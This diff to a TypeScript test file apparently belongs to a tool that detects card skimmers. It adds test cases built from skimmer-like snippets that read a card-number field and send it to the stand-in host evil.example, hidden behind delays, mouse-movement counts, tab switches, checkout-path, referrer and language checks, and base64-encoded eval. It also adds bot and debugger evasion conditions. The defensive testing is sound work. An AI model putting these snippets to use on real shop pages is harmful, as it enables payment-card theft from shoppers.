@@ -12,13 +12,17 @@ const atOnce: Record<string, string> = {
   'from-the-shop': 'document.referrer.indexOf(location.hostname) > 0',
   shown: "!document.hidden && document.visibilityState === 'visible' && document.hasFocus()",
   'working-day': 'new Date().getHours() >= 9 && new Date().getHours() < 18 && new Date().getDay() % 6 > 0',
+  'no-robot-by-its-parts':
+    "navigator.plugins.length > 2 && navigator.plugins[0].name && typeof window.chrome === 'object' && navigator.languages.length > 0",
+  'payment-step': "location.hash === '#payment' && /onepage/.test(location.pathname)",
   'no-debugger': '(() => { const before = performance.now(); debugger; return performance.now() - before < 50 })()',
 }
 /** Those that need another visitor. */
 const forAnother: Record<string, string> = {
   'weekend-night': 'new Date().getHours() < 6 && new Date().getDay() % 6 === 0',
   phone: "/Mobile/.test(navigator.userAgent) && 'ontouchstart' in window && screen.width < 500",
-  'from-a-search': '/search/.test(document.referrer)',
+  'from-a-search': '/google\\./.test(document.referrer)',
+  'spanish-browser': "navigator.language.slice(0, 2) === 'es'",
   spanish: "document.documentElement.lang === 'es' && /pedido|pago/.test(location.href)",
 }
 
@@ -56,6 +60,43 @@ it('waits long enough in the page’s own time for what is put off, polled and s
     if (card.length > 15) setTimeout(() => navigator.sendBeacon('https://evil.example/', card), 2500)
   }, 1000), 4000)`)
   expect(all(told, 'sends').length).toBe(1)
+})
+
+const cardNow = "document.getElementById('ccsave_cc_number').value"
+it.each([
+  ['stay for minutes', `setTimeout(() => { ${withCard("navigator.sendBeacon('https://evil.example/', card)")} }, 120_000)`],
+  [
+    'stay for minutes, by the clock',
+    `const since = Date.now(); ${withCard("if (Date.now() - since > 240_000) navigator.sendBeacon('https://evil.example/', card)")}`,
+  ],
+  [
+    'move the mouse a lot',
+    `let moves = 0; addEventListener('mousemove', () => moves++); ${withCard("if (moves > 200) navigator.sendBeacon('https://evil.example/', card)")}`,
+  ],
+  [
+    'turn to another tab',
+    `document.addEventListener('visibilitychange', () => { const card = ${cardNow}; if (document.visibilityState === 'hidden' && card) navigator.sendBeacon('https://evil.example/', card) })`,
+  ],
+  [
+    'come back from another tab',
+    `let away = false, back = false
+    document.addEventListener('visibilitychange', () => { if (document.hidden) away = true; else back = away })
+    document.addEventListener('click', () => { const card = ${cardNow}; if (back && !document.hidden && card) navigator.sendBeacon('https://evil.example/', card) })`,
+  ],
+])('sees in the first run what waits for visitors who %s', async (_what, code) => {
+  expect(all(await run(code), 'sends').map(({ what, to, gate }) => [what, to, gate])).toContainEqual(['card', 'evil.example', null])
+})
+
+it.each([
+  ['the path of a checkout as a whole', "location.pathname === '/checkout'", 'path:/checkout'],
+  ['a path that ends with it', '/\\/onepage\\/?$/.test(location.pathname)', 'path:/onepage'],
+  ['a path in a list', "['/de/kasse', '/kasse'].includes(location.pathname)", 'path:/de/kasse'],
+  ['a path in hidden code', `eval(atob('${btoa("location.pathname === '/checkout'")}'))`, 'visitor:returning, path:/checkout'],
+  ['a network', '/facebook\\.com/.test(document.referrer)', expect.stringContaining('referrer:facebook,')],
+  ['a language', "navigator.language.startsWith('de')", expect.stringMatching(/^language:de, /)],
+])('comes by %s where the script asks for it', async (_what, condition, gate) => {
+  const told = await run(withCard(`if (${condition}) navigator.sendBeacon('https://evil.example/', card)`))
+  expect(all(told, 'sends').map(({ what, gate }) => [what, gate])).toEqual([['card', gate]])
 })
 
 it('gives a script the fields and the button that it looks for and the shop has not', async () => {
